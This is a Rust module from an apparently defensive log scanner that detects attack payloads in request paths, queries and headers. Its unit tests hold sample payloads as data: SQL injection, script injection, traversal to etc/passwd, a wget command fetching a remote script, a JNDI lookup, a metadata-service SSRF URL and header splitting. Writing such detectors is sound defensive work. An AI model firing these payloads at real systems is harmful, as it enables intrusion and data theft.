//! Attack payloads in what the log shows: path, query, user agent, referer.
//!
//! A cheap look at the bytes comes first: a text without any character that payloads need is not searched. What
//! remains is percent-decoded at most twice and searched for fragments by one automaton; then each value by itself is read
//! as SQL and markup (`tokens`) and as a command line (`command`). Bodies are not in access logs and are not seen.

mod command;
mod fragments;
mod tokens;

use super::probe::lowercase_ascii;
use crate::limits::{
    PAYLOAD_BYTES_MAX, PAYLOAD_PARSED_BYTES_MAX, PAYLOAD_PARSED_COST, PAYLOAD_VALUE_BYTES_MAX,
    PAYLOAD_VALUES_MAX,
};
use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
use fragments::{CALLS, FRAGMENTS, OPENINGS};
use std::sync::LazyLock;

/// Rounds of percent-decoding: attackers encode twice to pass a proxy that decodes once. More is never legitimate.
const DECODE_ROUNDS: usize = 2;

/// From this weight of one request on nothing more counts: what a window adds for one request ends here.
pub(crate) const ENOUGH: f32 = 2.0;

/// Shortest value that is parsed: `1=1`, `' or`. Nothing shorter does anything.
const VALUE_BYTES_MIN: usize = 3;

/// Kinds of payload.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[repr(u8)]
pub enum PayloadClass {
    /// SQL.
    Sql,
    /// Script in a page.
    Script,
    /// Path traversal and local files.
    Traversal,
    /// Shell commands.
    Command,
    /// Template and expression languages, lookups.
    Template,
    /// Requests to inner addresses, remote inclusion.
    Remote,
    /// Header lines and mail commands behind a line break.
    Header,
    /// Directory (LDAP) filters.
    Directory,
}

impl PayloadClass {
    /// Every class.
    pub const ALL: [Self; 8] = [
        Self::Sql,
        Self::Script,
        Self::Traversal,
        Self::Command,
        Self::Template,
        Self::Remote,
        Self::Header,
        Self::Directory,
    ];

    /// In words.
    #[must_use]
    pub const fn as_str(self) -> &'static str {
        match self {
            Self::Sql => "SQL",
            Self::Script => "script",
            Self::Traversal => "path traversal",
            Self::Command => "shell command",
            Self::Template => "template",
            Self::Remote => "remote inclusion",
            Self::Header => "header splitting",
            Self::Directory => "LDAP filter",
        }
    }
}

/// What was found in one request.
#[derive(Debug, Clone, Copy, Default, PartialEq)]
pub struct PayloadHits {
    /// Sum of the weights of distinct fragments: 1 is conclusive by itself.
    pub weight: f32,
    /// Classes found, one bit each.
    pub classes: u8,
}

impl PayloadHits {
    fn add(&mut self, class: PayloadClass, weight: f32) {
        self.weight += weight;
        self.classes |= 1 << class as u8;
    }
}

/// Fragments, and behind them the calls.
const PATTERNS: usize = FRAGMENTS.len() + CALLS.len() * OPENINGS.len();

static AUTOMATON: LazyLock<AhoCorasick> = LazyLock::new(|| {
    let fragments = FRAGMENTS.iter().map(|(text, _, _)| (*text).to_owned());
    let calls = CALLS
        .iter()
        .flat_map(|name| OPENINGS.iter().map(move |opening| format!("{name}{opening}")));
    AhoCorasick::builder()
        .match_kind(MatchKind::Standard)
        .kind(Some(AhoCorasickKind::DFA))
        .build(fragments.chain(calls))
        .expect("a constant list of short fragments fits an automaton")
});

/// What is left of one request's search: an attacker fills path, query and both headers at once.
#[derive(Debug)]
pub(super) struct Budget {
    searched_bytes: usize,
    /// Bytes that are put aside for what is searched next.
    kept_bytes: usize,
    parsed_bytes: usize,
    values: usize,
    /// Whether the client has spent its tick's work.
    is_spent: bool,
    is_denied: bool,
}

impl Budget {
    /// The budget of one request.
    pub(super) const fn of_request() -> Self {
        Self {
            searched_bytes: PAYLOAD_BYTES_MAX,
            kept_bytes: 0,
            parsed_bytes: PAYLOAD_PARSED_BYTES_MAX,
            values: PAYLOAD_VALUES_MAX,
            is_spent: false,
            is_denied: false,
        }
    }

    /// The budget of one request of a client that has so much work left: all of it, or none.
    pub(super) const fn within(work_left: u32) -> Self {
        Self {
            is_spent: work_left == 0,
            ..Self::of_request()
        }
    }

    /// Puts half of the bytes aside, or takes back what was.
    pub(super) fn keep_half(&mut self, is_kept: bool) {
        let all = self.searched_bytes + self.kept_bytes;
        self.kept_bytes = if is_kept { all / 2 } else { 0 };
        self.searched_bytes = all - self.kept_bytes;
    }

    /// What was spent, in searched bytes.
    pub(super) fn spent(&self) -> u32 {
        let searched = PAYLOAD_BYTES_MAX - self.searched_bytes - self.kept_bytes;
        let parsed = PAYLOAD_PARSED_BYTES_MAX - self.parsed_bytes;
        searched as u32 + parsed as u32 * PAYLOAD_PARSED_COST
    }

    /// Whether something was not searched because the client's work was spent.
    pub(super) const fn is_denied(&self) -> bool {
        self.is_denied
    }
}

/// Searches a path or a query, as far as the budget goes and until more would not count.
pub(super) fn search(text: &str, budget: &mut Budget, hits: &mut PayloadHits) {
    if hits.weight >= ENOUGH || budget.searched_bytes == 0 || !needs_search(text.as_bytes()) {
        return;
    }
    if budget.is_spent {
        budget.is_denied = true;
        return;
    }
    let text = &text.as_bytes()[..text.len().min(budget.searched_bytes)];
    budget.searched_bytes -= text.len();
    let mut buffer = [0u8; PAYLOAD_BYTES_MAX];
    let mut len = lowercase_ascii(text, &mut buffer);
    let mut found = [false; PATTERNS];
    count(&buffer[..len], &mut found, hits);
    for _ in 0..DECODE_ROUNDS {
        let (decoded, changed) = decode_in_place(&mut buffer[..len]);
        len = decoded;
        if !changed || hits.weight >= ENOUGH {
            break;
        }
        count(&buffer[..len], &mut found, hits);
    }
    parse(text, budget, hits);
}

/// Reads each parameter or path segment by itself, as the application behind it does: as SQL, as a page, as a command line.
fn parse(text: &[u8], budget: &mut Budget, hits: &mut PayloadHits) {
    let mut buffer = [0u8; PAYLOAD_VALUE_BYTES_MAX];
    for value in likeliest(text).into_iter().flatten() {
        if hits.weight >= ENOUGH || budget.values == 0 || budget.parsed_bytes == 0 {
            return;
        }
        let value = memchr::memchr(b'=', value).map_or(value, |place| &value[place + 1..]);
        let mut len = lowercase_ascii(&value[..value.len().min(budget.parsed_bytes)], &mut buffer);
        budget.values -= 1;
        budget.parsed_bytes -= len;
        for _ in 0..DECODE_ROUNDS {
            let (decoded, changed) = decode_in_place(&mut buffer[..len]);
            len = decoded;
            if !changed {
                break;
            }
        }
        tokens::read(&buffer[..len], hits);
        command::read(&buffer[..len], hits);
    }
}

/// The values with the most of what payloads are written with, in their order: those that come first are no surer to hold
/// one, and whoever hides it puts others before it.
fn likeliest(text: &[u8]) -> [Option<&[u8]>; PAYLOAD_VALUES_MAX] {
    let mut chosen: [Option<(usize, usize, &[u8])>; PAYLOAD_VALUES_MAX] = [None; PAYLOAD_VALUES_MAX];
    let values = text.split(|byte| matches!(byte, b'&' | b'/')).enumerate();
    for (place, value) in values.filter(|(_, value)| needs_parse(value)) {
        let marks = marks(value);
        let weakest = chosen.iter_mut().min_by_key(|slot| {
            slot.map_or((0, usize::MAX), |(marks, place, _)| {
                (marks + 1, usize::MAX - place)
            })
        });
        if let Some(slot) = weakest
            && slot.is_none_or(|(least, ..)| marks > least)
        {
            *slot = Some((marks, place, value));
        }
    }
    chosen.sort_unstable_by_key(|slot| slot.map_or(usize::MAX, |(_, place, _)| place));
    chosen.map(|slot| slot.map(|(_, _, value)| value))
}

/// How often quotes, brackets and their like occur, plain or encoded once or twice.
fn marks(value: &[u8]) -> usize {
    let is_plain = |byte: &u8| {
        matches!(
            byte,
            b'\'' | b'"' | b'<' | b'>' | b'(' | b';' | b'|' | b'`' | b'$'
        )
    };
    let plain = value.iter().filter(|byte| is_plain(byte)).count();
    let is_encoded = |three: &&[u8]| three[0] == b'%' && matches!(three[1], b'2' | b'3');
    plain + value.windows(3).filter(is_encoded).count()
}

/// Whether a value may be more than a word: SQL, markup and command lines need a space or one of these, plain or encoded.
fn needs_parse(value: &[u8]) -> bool {
    value.len() >= VALUE_BYTES_MIN
        && value.iter().any(|byte| {
            matches!(
                byte,
                b'%' | b'+' | b'\'' | b'"' | b'<' | b'(' | b';' | b'|' | b'`' | b'*' | b'$'
            )
        })
}

/// Searches a referer. Addresses of pages hold little of what payloads need, so only telling characters start a search.
pub(super) fn search_header(text: &str, budget: &mut Budget, hits: &mut PayloadHits) {
    if memchr::memchr3(b'<', b'$', b'\'', text.as_bytes()).is_some()
        || memchr::memmem::find(text.as_bytes(), b"() {").is_some()
    {
        search(text, budget, hits);
    }
}

/// Searches a user agent. Browsers' hold brackets and semicolons, but never a path of the server's.
pub(super) fn search_agent(text: &str, budget: &mut Budget, hits: &mut PayloadHits) {
    let names_path = |path: &&str| memchr::memmem::find(text.as_bytes(), path.as_bytes()).is_some();
    if ["/etc/", "/bin/", "/proc/"].iter().any(names_path) {
        search(text, budget, hits);
    } else {
        search_header(text, budget, hits);
    }
}

/// Bytes of which fragments are written; most hold one.
const TELLING: [bool; 256] = {
    let mut table = [false; 256];
    let telling = b"%'\"<>(){}$;|`\\*@+\0";
    let mut place = 0;
    while place < telling.len() {
        table[telling[place] as usize] = true;
        place += 1;
    }
    table
};

/// Whether a text holds a byte of which fragments are written: those that need none are parts of ordinary paths.
pub(super) fn may_be_written_in(bytes: &[u8]) -> bool {
    bytes.iter().any(|byte| TELLING[usize::from(*byte)])
}

/// Whether a text holds a character without which no fragment can be written, even encoded.
fn needs_search(bytes: &[u8]) -> bool {
    may_be_written_in(bytes)
        || bytes
            .windows(2)
            .any(|pair| matches!(pair, b".." | b":/" | b"__" | b".i" | b"e." | b"c/"))
}

fn count(bytes: &[u8], found: &mut [bool; PATTERNS], hits: &mut PayloadHits) {
    for hit in AUTOMATON.find_overlapping_iter(bytes) {
        let place = hit.pattern().as_usize();
        let fragment = FRAGMENTS.get(place);
        // `eval($x)` is a call of `eval`, `cheval($x)` is not.
        if fragment.is_none() && bytes[..hit.start()].last().is_some_and(u8::is_ascii_alphanumeric) {
            continue;
        }
        if !std::mem::replace(&mut found[place], true) {
            match fragment {
                Some((_, class, weight)) => hits.add(*class, *weight),
                None => hits.add(PayloadClass::Command, fragments::STRONG),
            }
        }
    }
}

/// Decodes one round of percent-encoding (and `+` as a space) in place, lower-casing what comes out. Returns the
/// new length and whether anything changed.
fn decode_in_place(bytes: &mut [u8]) -> (usize, bool) {
    let (mut read, mut write, mut changed) = (0, 0, false);
    while read < bytes.len() {
        let byte = match bytes[read] {
            b'%' if read + 2 < bytes.len() => match (hex(bytes[read + 1]), hex(bytes[read + 2])) {
                (Some(high), Some(low)) => {
                    read += 2;
                    changed = true;
                    (high * 16 + low).to_ascii_lowercase()
                }
                _ => b'%',
            },
            b'+' => {
                changed = true;
                b' '
            }
            byte => byte,
        };
        bytes[write] = byte;
        read += 1;
        write += 1;
    }
    (write, changed)
}

fn hex(byte: u8) -> Option<u8> {
    char::from(byte).to_digit(16).map(|digit| digit as u8)
}

#[cfg(test)]
mod tests {
    use super::*;
    use PayloadClass::{Command, Directory, Header, Remote, Script, Sql, Template, Traversal};

    /// More than one weak fragment.
    const SHAPE_MIN: f32 = 0.5;

    fn check(text: &str, weight_min: f32, class: Option<PayloadClass>) {
        let mut hits = PayloadHits::default();
        search(text, &mut Budget::of_request(), &mut hits);
        assert!(hits.weight >= weight_min, "{text}: {hits:?}");
        match class {
            Some(class) => assert!(hits.classes & (1 << class as u8) != 0, "{text}: {hits:?}"),
            None => assert!(hits.weight < 1.0, "{text}: {hits:?}"),
        }
    }

    #[test]
    fn payloads_are_found_plain_encoded_and_encoded_twice() {
        check("id=1+UNION+SELECT+null", 1.0, Some(Sql));
        check("id=1%27%20OR%20%271%27=%271", 1.0, Some(Sql));
        check("q=%253Cscript%253Ealert(1)", 1.0, Some(Script));
        check("/static/..%2f..%2fetc%2fpasswd", 1.0, Some(Traversal));
        check("/static/..%2fconfig", 1.0, Some(Traversal));
        check("file=..%2f..%2fconfig", 1.0, Some(Traversal));
        check("x=;wget http://192.0.2.1/a.sh", 1.0, Some(Command));
        check("x=${jndi:ldap://192.0.2.1/a}", 1.0, Some(Template));
        check("url=http://169.254.169.254/latest/meta-data/", 1.0, Some(Remote));
    }

    #[test]
    fn payloads_without_a_known_fragment_are_found_by_their_shape() {
        check("id=1%27)%20oR%20(2)%3D(2", SHAPE_MIN, Some(Sql));
        check("q=%3Capplet%20code%3Df%3E", SHAPE_MIN, Some(Script));
        check("host=a%3Buname%20-a", 1.0, Some(Command));
        check("q=%0d%0aSet-Cookie:a=b", 1.0, Some(Header));
        check("user=a)(uid=*", 1.0, Some(Directory));
    }

    #[test]
    fn an_exhausted_budget_ends_the_search() {
        let mut budget = Budget::of_request();
        let mut hits = PayloadHits::default();
        search(&"'".repeat(PAYLOAD_BYTES_MAX), &mut budget, &mut hits);
        assert_eq!(budget.searched_bytes, 0);
        let before = hits;
        search("id=1+union+select+null", &mut budget, &mut hits);
        assert_eq!(hits, before);
    }

    #[test]
    fn a_payload_behind_others_that_are_none_is_parsed() {
        let cover: String = (0..12).map(|turn| format!("p{turn}=%41%42%43&")).collect();
        check(&format!("{cover}id=1%27)%20oR%20(2)%3D(2"), SHAPE_MIN, Some(Sql));
    }

    #[test]
    fn a_long_path_leaves_the_query_its_half() {
        let (mut budget, mut hits) = (Budget::of_request(), PayloadHits::default());
        budget.keep_half(true);
        search(&"%41".repeat(PAYLOAD_BYTES_MAX), &mut budget, &mut hits);
        budget.keep_half(false);
        search("id=1+union+select+null", &mut budget, &mut hits);
        assert!(hits.weight >= 1.0);
        assert!(budget.spent() > PAYLOAD_BYTES_MAX as u32 / 2);
    }

    #[test]
    fn a_client_that_has_spent_its_work_is_not_searched_and_that_is_told() {
        let (mut budget, mut hits) = (Budget::within(0), PayloadHits::default());
        search("id=ordinary", &mut budget, &mut hits);
        assert!(!budget.is_denied());
        search("id=1+union+select+null", &mut budget, &mut hits);
        assert!(hits.weight <= 0.0 && budget.is_denied() && budget.spent() == 0);
    }

    #[test]
    fn ordinary_texts_are_not_payloads() {
        for text in [
            "q=rock+and+roll",
            "name=O%27Brien",
            "/a/b/c.html",
            "filter=(price)",
            "q=order+by+phone",
            "t=10:30&d=2024-01-01",
            "q=select+a+plan",
            "x=[1,2]",
            "q=..%2Fconfig+not+found",
            "q=cheval($x)",
            "q=while+(foo)+is+bar",
            "titles=Dog|Cat|Python",
            "tags=perl;python;ruby",
            "C=M;O=A",
            "q=preg_replace()",
            "q=ls+300+lexus",
        ] {
            check(text, 0.0, None);
        }
    }

    #[test]
    fn a_broken_escape_and_a_long_text_do_no_harm() {
        check("%", 0.0, None);
        check("%zz%2", 0.0, None);
        check(&"%41".repeat(680), 0.0, None);
    }
}
